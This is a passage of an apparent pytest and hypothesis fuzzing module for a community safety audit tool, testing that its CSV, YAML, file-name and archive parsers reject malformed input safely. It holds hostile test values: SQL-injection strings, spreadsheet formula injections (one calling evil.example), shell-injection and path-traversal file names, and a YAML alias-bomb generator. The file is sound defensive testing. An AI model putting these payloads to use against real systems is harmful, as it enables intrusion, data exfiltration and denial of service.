"""Every parser of outside input, fed malformed and random input: a result or its own error, nothing else.

Two halves:

* the bad-input corpus (``tests/data/bad_inputs/MANIFEST.csv``) and a table of generated cases against the
  strict police.uk reader, and hostile file names against the two discoveries (police.uk archive layout and
  the landing zone), each with the verdict it must get;
* property-based fuzzing (hypothesis) of the police.uk reader, the ONS lookups, the region YAML, the data
  plan, landing-zone names and listings, police.uk archive zips and pseudonymisation. Each parser must
  return a parsed result or raise its documented error (FileRejected, GeographyError, RegionConfigError,
  PlanError, LandingConfigError/LandingError, ArchiveError) - never another exception, never hang.

Examples are few per property so the module stays fast; ``CSP_AUDIT_FUZZ_EXAMPLES=5000`` searches longer
(``FEW`` properties, whose examples are slow, get half as many).
"""

from __future__ import annotations

import copy
import csv
import io
import os
import posixpath
import shutil
import tempfile
import unicodedata
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from csp_audit.config import AREA_TYPES, Region, RegionConfigError, load_region, safe_yaml
from csp_audit.geography import (
    GeographyError,
    Lookup,
    read_apportionment,
    read_lsoa_lookup,
    read_partnership_lookup,
    read_population,
)
from csp_audit.plan.model import Cycle, DataPlan, Dataset, Geography, PlanError, Sharing, load_plan
from csp_audit.plan.periods import Month
from csp_audit.plan.validate import rule_problems, schema_problems
from csp_audit.quality.strict_csv import MAX_RECORD, FileRejected
from csp_audit.sources.archive import ArchiveError, _extract, _unsafe_member, archive_url
from csp_audit.sources.landing import (
    LandingConfigError,
    LandingError,
    SkippedEntry,
    fetch_to_local,
    landing_root,
    list_deliveries,
    printable,
    unsafe_name,
)
from csp_audit.sources.police_uk import HEADER, discover, read_file
from csp_audit.warehouse.pseudonymise import key_pads, pseudonym
from csp_audit.warehouse.pseudonymise import sql as pseudonymise_sql
from csp_audit_demo.plan import write_demo_plan
from csp_audit_demo.region import generate_demo_region
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.timeout(180)  # a parser that hangs fails here, not at the suite's 20-minute limit

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad_inputs"
CSV_RULES = {"utf8_encoding", "header_present", "header_matches_police_uk", "field_count", "csv_syntax"}
HEADER_LINE = ",".join(HEADER)
GOOD_ROW = (
    "{cid},2021-06,Northshire Police,Northshire Police,-1.990149,54.402797,On or near High Street,"
    'E01990015,"Aldbury, Crane and Holt 001A",Burglary,Under investigation,'
)

# Few examples per property, no deadline (the first example pays for imports and caches).
EXAMPLES = int(os.environ.get("CSP_AUDIT_FUZZ_EXAMPLES", "100"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
FEW = settings(FUZZ, max_examples=max(1, EXAMPLES // 2))


def _row(n: int) -> str:
    return GOOD_ROW.format(cid=f"{n:064x}")


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One scratch folder for the module; every example overwrites its own file in it."""
    return tmp_path_factory.mktemp("fuzz")


# =============================================================================================== corpus


def _manifest() -> list[dict[str, str]]:
    with (CORPUS / "MANIFEST.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_corpus_is_small_and_complete() -> None:
    files = {p.name for p in (CORPUS / "police").iterdir()}
    assert files == {case["file"] for case in _manifest()}
    total = sum(p.stat().st_size for p in CORPUS.rglob("*") if p.is_file())
    assert total < 200_000


@pytest.mark.parametrize("case", _manifest(), ids=lambda case: case["file"])
def test_corpus_verdicts(case: dict[str, str]) -> None:
    """Each corpus file is rejected with its rule and line, or accepted with its rows, as MANIFEST says."""
    path = CORPUS / "police" / case["file"]
    if case["outcome"] == "rejected":
        with pytest.raises(FileRejected) as caught:
            read_file(path, case["file"])
        assert (caught.value.rule, caught.value.line) == (case["rule"], int(case["line"])), caught.value
        assert caught.value.source_file == case["file"]
        assert "\n" not in str(caught.value)  # the CLI reports it on one line
    else:
        rows = read_file(path, case["file"])
        assert all(list(row) == ["row_number", *HEADER] for row in rows)
        assert len(rows) == int(case["rows_read"])
        assert [row["row_number"] for row in rows] == list(range(1, len(rows) + 1))


def test_corpus_awkward_text_is_read_verbatim() -> None:
    """Quoted newlines, doubled quotes, SQL and formulas come back exactly as written: they are data."""
    rows = read_file(CORPUS / "police" / "embedded_newlines_quotes.csv", "x")
    assert rows[0]["Location"] == 'On or near "The Crown"\r\nHigh Street'
    assert rows[1]["Context"] == "first line\nsecond line, with a comma"
    assert rows[2]["Location"] == 'Quote at the end "'
    sql = read_file(CORPUS / "police" / "sql_text.csv", "x")
    assert [r["Crime type"] for r in sql] == [
        "'); drop table raw.deliveries; --",
        "Robert'); DROP TABLE raw.police_street_rows;--",
        'x" or 1=1 --',
    ]
    assert sql[2]["LSOA name"] == "LSOA'; delete from audit.reconciliation; --"
    formulas = read_file(CORPUS / "police" / "formula_text.csv", "x")
    assert [r["Crime type"] for r in formulas] == [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-1+1",
    ]
    assert formulas[2]["Crime ID"] == "=1+1"
    bom = read_file(CORPUS / "police" / "bom.csv", "x")
    assert all(len(r["Crime ID"]) == 64 for r in bom)  # the BOM is not glued to the first value


# Generated cases: too big for the corpus, or simplest to state as bytes. (bytes, rule, line) or rows.
GENERATED: list[tuple[str, bytes, tuple[str, int] | int]] = [
    ("record over the limit", f"{HEADER_LINE}\n{_row(1)}\n{_row(2)}{'x' * MAX_RECORD}\n".encode(),
     ("csv_syntax", 3)),
    ("field of 128 KiB", f"{HEADER_LINE}\n{_row(1)}{'x' * 131_072}\n".encode(), 1),
    ("quoted field over the limit spanning lines",
     f'{HEADER_LINE}\n{_row(1)}"{"y" * (MAX_RECORD // 2)}\n{"y" * (MAX_RECORD // 2)}"\n'.encode(), ("csv_syntax", 2)),
    ("whitespace only", b" \r\n\r\n\t\n", ("header_present", 1)),
    ("BOM only", b"\xef\xbb\xbf", ("header_present", 1)),
    ("latin-1 in the header", HEADER_LINE.replace("Crime type", "Crime t\xffpe").encode("latin-1"),
     ("utf8_encoding", 1)),
    ("UTF-16 without BOM: ASCII decodes, NULs remain", f"{HEADER_LINE}\n".encode("utf-16-be"), ("csv_syntax", 1)),
    ("encoded surrogate (CESU-8)", f"{HEADER_LINE}\n".encode() + b"\xed\xa0\x80,x\n", ("utf8_encoding", 2)),
    ("overlong UTF-8 slash", f"{HEADER_LINE}\n{_row(1)}\n".encode() + b"\xc0\xaf\n", ("utf8_encoding", 3)),
    ("header in lower case", f"{HEADER_LINE.lower()}\n{_row(1)}\n".encode(), ("header_matches_police_uk", 1)),
    ("header with a 13th column", f"{HEADER_LINE},Extra\n{_row(1)},x\n".encode(),
     ("header_matches_police_uk", 1)),
    ("header padded with spaces", f"{HEADER_LINE.replace(',', ' , ')}\n{_row(1)}\n".encode(), 1),
    ("CR-only line endings", f"{HEADER_LINE}\r{_row(1)}\r{_row(2)}\r".encode(), 2),
    ("no final newline", f"{HEADER_LINE}\n{_row(1)}".encode(), 1),
    ("blank lines between rows", f"{HEADER_LINE}\n\n{_row(1)}\n\n{_row(2)}\n\n".encode(), 2),
    ("CRLF blank lines between rows", f"{HEADER_LINE}\r\n\r\n{_row(1)}\r\n\r\n{_row(2)}\r\n".encode(), 2),
    ("a CRLF blank line in an LF file", f"{HEADER_LINE}\n\n{_row(1)}\n\r\n{_row(2)}\n".encode(),
     ("csv_syntax", 4)),
    ("NUL in the header", f"{HEADER_LINE}\x00\n{_row(1)}\n".encode(), ("csv_syntax", 1)),
    ("NUL after a quoted newline", f'{HEADER_LINE}\n{_row(1)[:-1]}"a\nb"\n{_row(2)}\x00\n'.encode(),
     ("csv_syntax", 4)),
    ("stray quote closing early", f'{HEADER_LINE}\n"a"b{_row(1)[1:]}\n'.encode(), ("csv_syntax", 2)),
    ("bare CR in an unquoted field of an LF file", f"{HEADER_LINE}\n{_row(1)}a\rb\n".encode(), ("csv_syntax", 2)),
    ("row of one empty quoted field", f'{HEADER_LINE}\n""\n'.encode(), ("field_count", 2)),
]  # fmt: skip


@pytest.mark.parametrize(("bytes_", "expected"), [c[1:] for c in GENERATED], ids=[c[0] for c in GENERATED])
def test_generated_cases(work: Path, bytes_: bytes, expected: tuple[str, int] | int) -> None:
    path = work / "generated.csv"
    path.write_bytes(bytes_)
    if isinstance(expected, int):
        assert len(read_file(path, "generated.csv")) == expected
    else:
        with pytest.raises(FileRejected) as caught:
            read_file(path, "generated.csv")
        assert (caught.value.rule, caught.value.line) == expected, caught.value


# =========================================================================================== file names

# name -> why the landing zone skips it (None: listed under its exact name; it is data, never a command)
HOSTILE_NAMES: dict[str, str | None] = {
    "..": "empty or relative name",
    "../../etc/passwd": "path traversal",
    "/etc/passwd": "absolute path",
    "C:evil.csv": "absolute path",
    "..\\..\\evil.csv": "path traversal",
    "evil\n.csv": "control or invisible character U+000A in the name",
    "evil\r.csv": "control or invisible character U+000D in the name",
    "invoice\u202evsc.exe": "control or invisible character U+202E in the name",
    "zero\u200bwidth.csv": "control or invisible character U+200B in the name",
    "tab\t.csv": "control or invisible character U+0009 in the name",
    "nul\x00.csv": "control or invisible character U+0000 in the name",
    ".hidden.csv": "hidden file",
    "...csv": "hidden file",
    "?": "a '?' or '#' that a URL would drop",
    "report.csv#": "a '?' or '#' that a URL would drop",
    "report.csv?#x": "a '?' or '#' that a URL would drop",
    "a?b#c%20.csv": None,
    "$(rm -rf x).csv": None,
    "a;touch pwned;.csv": None,
    "`touch pwned`.csv": None,
    "'); drop table raw.deliveries; --.csv": None,
    "=HYPERLINK(1).csv": None,
    "|calc.csv": None,
}


@pytest.mark.parametrize(("name", "reason"), HOSTILE_NAMES.items(), ids=repr)
def test_unsafe_name_verdicts(name: str, reason: str | None) -> None:
    assert unsafe_name(name) == reason


def _on_disk(names: dict[str, str | None]) -> dict[str, str | None]:
    """The names a POSIX file system can hold (no '/', no NUL, not '.' or '..')."""
    return {n: r for n, r in names.items() if "/" not in n and "\x00" not in n and n not in (".", "..")}


def _plan() -> DataPlan:
    """One dataset delivered by one agency into the default landing folder ``council/asb/<YYYY-MM>/``."""
    dataset = Dataset(
        "asb", ("council",), "test", "csv", (), Geography("lsoa", 2021), "month", "monthly", 10, None,
        Sharing("aggregate"),
    )  # fmt: skip
    return DataPlan("t", Path("/nonexistent/plan.yaml"), Path("/nonexistent"), Cycle(Month(2024, 1), 12), {},
                    {"asb": dataset})  # fmt: skip


def test_landing_zone_skips_hostile_names_with_a_reason(tmp_path: Path) -> None:
    """Hostile names are skipped with the reason; shell text is listed verbatim, read by content hash only."""
    root, outside = tmp_path / "landing", tmp_path / "outside"
    period = root / "council" / "asb" / "2024-01"
    period.mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.csv").write_text("secret\n")
    for name in _on_disk(HOSTILE_NAMES):
        (period / name).write_text(f"{name}\n")
    (period / "escape.csv").symlink_to(outside / "secret.csv")
    (root / "council" / "asb" / "2024-02;rm -rf x").mkdir()
    (root / "council" / "asb" / "$(touch pwned)").mkdir()
    before = sorted(p.name for p in tmp_path.iterdir())

    skipped: list[SkippedEntry] = []
    found = list_deliveries(str(root), _plan(), skipped=skipped)
    reasons = {s.relative_path: s.reason for s in skipped}

    expected = {f"council/asb/2024-01/{printable(n)}": r for n, r in _on_disk(HOSTILE_NAMES).items() if r}
    expected["council/asb/2024-01/escape.csv"] = "symbolic link pointing outside the landing zone"
    expected["council/asb/2024-02;rm -rf x"] = "period folder is not named YYYY-MM"
    expected["council/asb/$(touch pwned)"] = "period folder is not named YYYY-MM"
    assert reasons == expected
    assert all("\n" not in s.relative_path and "\u202e" not in s.relative_path for s in skipped)
    listed = {f.name for f in found}
    assert listed == {n for n, r in _on_disk(HOSTILE_NAMES).items() if r is None}

    cache = tmp_path / "cache"
    for landed in found:  # the name never reaches a path or a shell: the cache is content-addressed
        local = fetch_to_local(landed, str(root), cache)
        assert local.read_text() == f"{landed.name}\n"
        assert local.name == f"{landed.sha256}.csv"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "cache"])
    assert not list(tmp_path.rglob("pwned")) and not Path("pwned").exists()


def test_police_discovery_ignores_hostile_names(tmp_path: Path) -> None:
    """Only YYYY-MM-<slug>-street.csv is a police.uk delivery; links out of the folder are never followed."""
    police, outside = tmp_path / "police", tmp_path / "outside"
    month = police / "2021-06"
    month.mkdir(parents=True)
    outside.mkdir()
    body = f"{HEADER_LINE}\n{_row(1)}\n"
    (outside / "2021-06-outside-street.csv").write_text(body)
    (month / "2021-06-northshire-street.csv").write_text(body)
    hostile = [
        "2021-06-$(touch pwned)-street.csv",
        "2021-06-x;touch pwned;-street.csv",
        "2021-06-`touch pwned`-street.csv",
        "2021-06-north\nshire-street.csv",
        "2021-06-north\u202eshire-street.csv",
        "2021-06-..-street.csv",
        ".2021-06-northshire-street.csv",
        "2021-06-Northshire-street.csv",
        "2021-13-northshire-street.csv",
        "2021-06-northshire-street.csv.exe",
        "2021-06-northshire-street.csv\n",
        "..\\2021-06-northshire-street.csv",
    ]
    for name in hostile:
        (month / name).write_text(body)
    (month / "2021-06-escape-street.csv").symlink_to(outside / "2021-06-outside-street.csv")
    (police / "2021-07").symlink_to(outside, target_is_directory=True)
    found = discover(police)
    assert [f.source_file for f in found] == ["2021-06/2021-06-northshire-street.csv"]
    assert not list(tmp_path.rglob("pwned"))


# ============================================================================= police.uk CSV: fuzzing

TOKENS = [
    b",", b'"', b'""', b"\n", b"\r\n", b"\r", b" ", b"a", b"2021-06", b"E01990015", b"\xc3\xa9", b"\xe9",
    b"\xff\xfe", b"\xef\xbb\xbf", b"\x00", b"\t", b";", b"'", b"=1+1", HEADER_LINE.encode(),
    HEADER_LINE.encode() + b"\n", _row(1).encode(), b",,,,,,,,,,,",
]  # fmt: skip


def _check_police(path: Path) -> None:
    """Rows of the contract's shape, or a FileRejected naming a known rule and a real line."""
    data = path.read_bytes()
    try:
        rows = read_file(path, "fuzz.csv")
    except FileRejected as exc:
        assert exc.rule in CSV_RULES, exc
        assert 1 <= exc.line <= data.count(b"\n") + data.count(b"\r") + 1, exc
        assert exc.source_file == "fuzz.csv"
        return
    assert all(list(row) == ["row_number", *HEADER] for row in rows)
    assert [row["row_number"] for row in rows] == list(range(1, len(rows) + 1))
    for column in HEADER:
        assert all(isinstance(row[column], str | None) for row in rows)


@FUZZ
@given(data=st.binary(max_size=2048))
def test_police_reader_on_arbitrary_bytes(work: Path, data: bytes) -> None:
    path = work / "bytes.csv"
    path.write_bytes(data)
    _check_police(path)


@FUZZ
@given(parts=st.lists(st.sampled_from(TOKENS), max_size=60), valid_header=st.booleans())
def test_police_reader_on_csv_like_bytes(work: Path, parts: list[bytes], valid_header: bool) -> None:
    path = work / "tokens.csv"
    path.write_bytes((HEADER_LINE.encode() + b"\r\n" if valid_header else b"") + b"".join(parts))
    _check_police(path)


FIELD = st.one_of(
    st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=25),
    st.sampled_from([
        "", " ", '"', '""', ",", "\n", "\r\n", "\r", '"a,b"\n', "'); drop table raw.deliveries; --",
        "=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\ufeff", "\u202e", "é",
    ]),
)  # fmt: skip


@FUZZ
@given(
    rows=st.lists(st.lists(FIELD, min_size=12, max_size=12), max_size=12),
    bom=st.booleans(),
    dialect=st.sampled_from([("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL)]),
)
def test_police_csv_round_trip(
    work: Path, rows: list[list[str]], bom: bool, dialect: tuple[str, int]
) -> None:
    """A well-formed file written by the csv module reads back to exactly the same values and row count
    (an empty field, quoted or not, is a missing value)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=dialect[0], quoting=dialect[1])
    writer.writerow(HEADER)
    writer.writerows(rows)
    path = work / "roundtrip.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
    read = read_file(path, "roundtrip.csv")
    assert len(read) == len(rows)
    assert [[row[c] for c in HEADER] for row in read] == [[v if v != "" else None for v in r] for r in rows]


# ====================================================================================== ONS lookups

HEADER_NAMES = [
    "FID", "LSOA11CD", "LSOA11NM", "lsoa21cd", "WD19CD", "WD19NM", "WD18NMW", "LAD19CD", "LAD19NM", "LAD17CD",
    "CSP19CD", "CSP19NM", "PFA19CD", "PFA19NM", "population", "All Ages", "WD15CD", "PCDS", "weight", "x", "",
    " LSOA11CD ", "\ufeffLAD19CD",
]  # fmt: skip
VALUES = [
    "E01000001", "E01000002", "E05000001", "E06000001", "E07000001", "E22000001", "E23000001", "W14000001",
    "", " ", "x", "Name, with comma", '"quoted"', "1", "0", "1,234", "-5", "3.5", "1e400", "nan", "inf", "-inf",
    "99999999999999999999", "9" * 5000, "٣", "E0100000١", "e01000001", "NS1",
]  # fmt: skip
LOOKUP_READERS = {
    "lsoa": read_lsoa_lookup,
    "partnership": read_partnership_lookup,
    "population": read_population,
}


def _check_lookups(path: Path, area_type: str, weight: str) -> None:
    for reader in LOOKUP_READERS.values():
        try:
            out = reader(path)
        except GeographyError:
            continue
        assert isinstance(out, Lookup | pd.DataFrame)
    try:
        read_apportionment(path, area_type, weight)
    except GeographyError:
        pass


@FEW
@given(data=st.binary(max_size=1024))
def test_lookup_readers_on_arbitrary_bytes(work: Path, data: bytes) -> None:
    path = work / "lookup-bytes.csv"
    path.write_bytes(data)
    _check_lookups(path, "ward", "population")


@FUZZ
@given(
    header=st.lists(st.sampled_from(HEADER_NAMES), min_size=1, max_size=8),
    rows=st.lists(st.lists(st.sampled_from(VALUES), min_size=1, max_size=8), max_size=6),
    area_type=st.sampled_from([*AREA_TYPES, "bogus"]),
    weight=st.sampled_from(["population", "weight", "All Ages", ""]),
    bom=st.booleans(),
)
@example(header=["LSOA11CD", "population"], rows=[["E01000001", "9" * 5000]], area_type="ward",
         weight="population", bom=False)  # fmt: skip
@example(header=["LSOA11CD", "population"], rows=[["E01000001", "99999999999999999999"]], area_type="ward",
         weight="population", bom=False)  # fmt: skip
def test_lookup_readers_on_csv_like_files(
    work: Path, header: list[str], rows: list[list[str]], area_type: str, weight: str, bom: bool
) -> None:
    """Plausible ONS column names and values in random shapes: a lookup or a GeographyError naming the file."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:  # mostly the header's width, sometimes not
        writer.writerow((row * len(header))[: len(header)] if len(row) % 2 else row)
    path = work / "lookup.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode())
    _check_lookups(path, area_type, weight)


# ====================================================================================== region YAML


@pytest.fixture(scope="module")
def region_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny demo region with a valid region YAML and a cut-down demo plan: the seeds the fuzzers mutate."""
    out = tmp_path_factory.mktemp("region")
    generate_demo_region(out, months=1, scale=0.05)
    plan = yaml.safe_load(write_demo_plan(out).read_text())
    keep = ("police_uk_street", "ed_assaults", "yot_first_time_entrants")  # record, deidentified, aggregate
    plan["datasets"] = {key: plan["datasets"][key] for key in keep}
    used = {
        a
        for d in plan["datasets"].values()
        for a in ([d["agency"]] if isinstance(d["agency"], str) else d["agency"])
    }
    plan["agencies"] = {key: value for key, value in plan["agencies"].items() if key in used}
    (out / "seed-plan.yaml").write_text(_dump(plan), encoding="utf-8")
    assert isinstance(load_plan(out / "seed-plan.yaml"), DataPlan)  # mutations start from a valid plan
    return out


@pytest.fixture(scope="module")
def seeds(region_dir: Path) -> dict[str, Any]:
    """The parsed seeds (parsing YAML is the slow part of each example, so it is done once)."""
    return {
        "region": yaml.safe_load((region_dir / "region.yaml").read_text()),
        "plan": yaml.safe_load((region_dir / "seed-plan.yaml").read_text()),
    }


YAML_SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=True),
    st.text(max_size=20), st.dates(), st.binary(max_size=8),
    st.sampled_from([
        "", "x", "demo-region", "lookups/LSOA11_WD19_LAD19_lookup_EW.csv",
        "lookups/LAD19_CSP19_PFA19_lookup_EW_Dec2019.csv", "lookups/lsoa_population.csv", "police/", "police",
        "../../etc/passwd", "/dev/null", "a\x00b", "a" * 300, "~nosuchuser/x", "E23990001", "E22990001",
        "E22990009", "W15000001", "E2399000", "2021-04", "2021-13", 4, 13, 0, True, "ward", "population",
        "monthly", "record", "aggregate", "lsoa", "all", "{agency}/{dataset}", "{x}", "index",
    ]),
)  # fmt: skip
YAML_VALUES = st.recursive(
    YAML_SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.one_of(st.text(max_size=12), st.integers(), st.sampled_from(
            ["name", "geography", "partnerships", "sources", "codes", "police_force_areas", "police_uk",
             "lsoa_lookup", "partnership_lookup", "population", "finer", "apportionment", "area_type",
             "vintage", "lookup", "weight", "audit_year_start_month"])), inner, max_size=4),
    ),
    max_leaves=12,
)  # fmt: skip
YAML_TOKENS = [
    "name: x\n", "geography:\n", "  lsoa_lookup: ", "partnerships: {codes: [", "]}\n", "sources: {police_uk: ",
    "}\n", ": ", "- ", "[", "]", "{", "}", "&a ", "*a ", "*b", "!!binary ", "!!set ", "!!python/object ",
    "? ", "2021-13-45", "2021-04-01", "\t", "\n  ", "'", '"', "\\", "%YAML 1.1\n", "---\n", "...\n", "#",
    "|\n", ">\n", "~", "0x1F", "1e400", ".nan", "<<: *a\n", "\ufeff", "\x00", "\x85", "é",
]  # fmt: skip


def _dump(value: Any) -> str:
    return yaml.safe_dump(value, allow_unicode=True, sort_keys=False)


def _check_region(path: Path) -> None:
    try:
        region = load_region(path)
    except RegionConfigError as exc:
        assert str(path.resolve()) in str(exc)
        return
    assert isinstance(region, Region)
    for p in (region.lsoa_lookup, region.partnership_lookup, region.police_uk):
        assert p is None or p.is_absolute()


def _containers(node: Any) -> list[Any]:
    """Every mapping and list in a document, outermost first."""
    if not isinstance(node, dict | list):
        return []
    children = node.values() if isinstance(node, dict) else node
    return [node, *(inner for child in children for inner in _containers(child))]


def _mutate(doc: Any, changes: list[tuple[int, str, Any]]) -> Any:
    """Apply (which node, what to do, new value) to a copy: replace, delete or add a key anywhere."""
    doc = copy.deepcopy(doc)
    for index, action, value in changes:
        nodes = _containers(doc)
        if not nodes:
            return value
        node = nodes[index % len(nodes)]
        keys = list(node) if isinstance(node, dict) else list(range(len(node)))
        if action == "add" or not keys:
            if isinstance(node, dict):
                node[f"extra_{index}"] = value
            else:
                node.append(value)
            continue
        key = keys[index % len(keys)]
        if action == "delete":
            del node[key]
        else:
            node[key] = value
    return doc


CHANGES = st.lists(
    st.tuples(st.integers(0, 1000), st.sampled_from(["replace", "replace", "delete", "add"]), YAML_VALUES),
    min_size=1,
    max_size=3,
)


@FUZZ
@given(changes=CHANGES)
@example(changes=[(0, "replace", date(2021, 4, 1))])
def test_region_yaml_mutations(
    region_dir: Path, seeds: dict[str, Any], changes: list[tuple[int, str, Any]]
) -> None:
    path = region_dir / "fuzzed-region.yaml"
    path.write_text(_dump(_mutate(seeds["region"], changes)), encoding="utf-8")
    _check_region(path)


@FUZZ
@given(parts=st.lists(st.sampled_from(YAML_TOKENS), max_size=40), raw=st.binary(max_size=64))
@example(parts=["name: ", "2021-13-45"], raw=b"")
@example(parts=["[" * 2000], raw=b"")
@example(parts=[], raw=b"name: \xff\n")
@example(parts=["1: a\n", "name: x\n"], raw=b"")
def test_region_yaml_text(region_dir: Path, parts: list[str], raw: bytes) -> None:
    path = region_dir / "text-region.yaml"
    path.write_bytes("".join(parts).encode() + raw)
    _check_region(path)


def _alias_bomb(levels: int) -> str:
    """A "billion laughs": each level lists the previous one ten times, 10**levels values from ~40*levels bytes."""
    items = ["&a0 [" + ", ".join(["lol"] * 10) + "]"]
    items += [f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return "[" + ", ".join(items) + "]"


def test_alias_bombs_are_refused_not_expanded(region_dir: Path) -> None:
    """Nested aliases would hang every step that walks the document; both loaders refuse them at once."""
    assert safe_yaml("a: &x [1, 2]\nb: *x\n") == {"a": [1, 2], "b": [1, 2]}  # ordinary aliases still work
    with pytest.raises(yaml.YAMLError):
        safe_yaml(_alias_bomb(6))
    region = region_dir / "bomb-region.yaml"
    region.write_text(
        (region_dir / "region.yaml").read_text().replace("name: demo-region", f"name: {_alias_bomb(9)}")
    )
    with pytest.raises(RegionConfigError, match="aliases expand"):
        load_region(region)
    plan = region_dir / "bomb-plan.yaml"
    plan.write_text(
        f"name: {_alias_bomb(9)}\n" + (region_dir / "seed-plan.yaml").read_text().split("\n", 1)[1]
    )
    with pytest.raises(PlanError, match="aliases expand"):
        load_plan(plan)


# ========================================================================================== data plan


def _check_plan(path: Path) -> None:
    try:
        plan = load_plan(path)
    except PlanError as exc:
        assert exc.errors and all(str(path) in line for line in exc.errors)
        return
    assert isinstance(plan, DataPlan)
    for dataset in plan.datasets.values():
        for agency in dataset.agencies:
            assert dataset.landing_folder(agency)


@FEW
@given(changes=CHANGES)
@example(changes=[(5, "replace", [1])])
@example(changes=[(9, "replace", {"name": [1]})])
def test_plan_yaml_mutations(
    region_dir: Path, seeds: dict[str, Any], changes: list[tuple[int, str, Any]]
) -> None:
    """The demo plan with up to three nodes replaced, deleted or added: a DataPlan or a PlanError."""
    path = region_dir / "fuzzed-plan.yaml"
    path.write_text(_dump(_mutate(seeds["plan"], changes)), encoding="utf-8")
    _check_plan(path)


@FUZZ
@given(doc=YAML_VALUES, changes=CHANGES)
def test_plan_rules_on_arbitrary_documents(seeds: dict[str, Any], doc: Any, changes: list[Any]) -> None:
    """The schema and the cross-key rules report problems on any document; they never raise."""
    for candidate in (doc, _mutate(seeds["plan"], changes)):
        problems = schema_problems(candidate) + rule_problems(candidate)
        assert all(isinstance(where, str) and isinstance(message, str) for where, message in problems)


@FEW
@given(
    parts=st.lists(st.sampled_from(YAML_TOKENS + ["region: region.yaml\n", "cycle: {start: "]), max_size=40)
)
@example(parts=["cycle: {start: ", "2021-13-45", "}\n"])
@example(parts=["region: ", '"a\\0b"\n'])
@example(parts=["{" * 2000])
def test_plan_yaml_text(region_dir: Path, parts: list[str]) -> None:
    path = region_dir / "text-plan.yaml"
    path.write_text("".join(parts), encoding="utf-8")
    _check_plan(path)


# ======================================================================================= landing zone

UNIX_NAME = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="/\x00"), min_size=1, max_size=40
).filter(lambda n: n not in (".", "..") and len(n.encode("utf-8", "surrogateescape")) <= 255)


def _traversal(name: str) -> bool:
    return ".." in name.replace("\\", "/").split("/")


@FUZZ
@given(name=st.text(max_size=30))
@example(name="../x")
@example(name="a/../b")
@example(name="..\\x")
@example(name="x\u202egpj.exe")
@example(name=".env")
@example(name="\x7f")
def test_unsafe_name_rejects_every_dangerous_name(name: str) -> None:
    reason = unsafe_name(name)
    dangerous = (
        name in ("", ".", "..")
        or _traversal(name)
        or "/" in name
        or "\\" in name
        or name.startswith(".")
        or any(unicodedata.category(c).startswith("C") for c in name)
    )
    if dangerous:
        assert reason is not None
    if reason is None:  # a safe name is one plain component: joined to a folder it stays directly inside
        joined = posixpath.normpath(posixpath.join("/landing/period", name))
        assert posixpath.dirname(joined) == "/landing/period"
        assert posixpath.basename(joined) == name


@FEW
@given(name=UNIX_NAME)
@example(name="a?b#c%20.csv")
@example(name="report\udcff.csv")
@example(name="x\u2028y.csv")
def test_landing_listing_of_arbitrary_names(name: str) -> None:
    """Any file name a disk can hold: listed under its exact name with the right hash, or skipped with the
    reason unsafe_name gives; nothing else, and nothing outside the landing zone is touched."""
    with tempfile.TemporaryDirectory() as temp:
        root = Path(temp) / "landing"
        period = root / "council" / "asb" / "2024-01"
        period.mkdir(parents=True)
        target = os.path.join(os.fsencode(period), os.fsencode(name))
        with open(target, "wb") as handle:
            handle.write(b"a,b\n1,2\n")
        skipped: list[SkippedEntry] = []
        found = list_deliveries(str(root), _plan(), skipped=skipped)
        reason = unsafe_name(name)
        if reason is None:
            assert [f.name for f in found] == [name] and not skipped
            assert found[0].size == 8
            local = fetch_to_local(found[0], str(root), Path(temp) / "cache")  # read back by its hash
            assert local.read_bytes() == b"a,b\n1,2\n"
        else:
            assert not found
            assert [s.reason for s in skipped] == [reason]
            assert all(c.isprintable() for c in skipped[0].relative_path)
        assert set(os.listdir(temp)) <= {"landing", "cache"}
        assert os.listdir(period) == [os.fsdecode(os.fsencode(name))]


@FUZZ
@given(
    url=st.one_of(
        st.text(max_size=40),
        st.sampled_from(["sftp://", "s3://", "file://", "ftp://", "//"]).flatmap(
            lambda scheme: st.text(max_size=30).map(lambda rest: scheme + rest)
        ),
    )
)
@example(url="~nosuchuser_csp/landing")
@example(url="//[x")
@example(url="sftp://host:99999/x")
@example(url="/tmp/a\x00b")
@example(url="file://user:pw@host/x")
def test_landing_root_on_arbitrary_urls(url: str) -> None:
    """Without a connection id nothing remote is reached: a local root, or LandingConfigError saying why."""
    try:
        root = landing_root(url)
    except (LandingConfigError, LandingError):
        return
    assert (root.protocol or "file") == "file"


# ================================================================================ police.uk archives

ZIP_NAMES = st.one_of(
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40).filter(lambda n: n[0] != "\x00"),
    st.sampled_from([
        "2024-02/2024-02-durham-street.csv", "../2024-02/2024-02-durham-street.csv",
        "2024-02/../../2024-02-durham-street.csv", "/2024-02/2024-02-durham-street.csv",
        "C:/2024-02/2024-02-durham-street.csv", "2024-02\\2024-02-durham-street.csv",
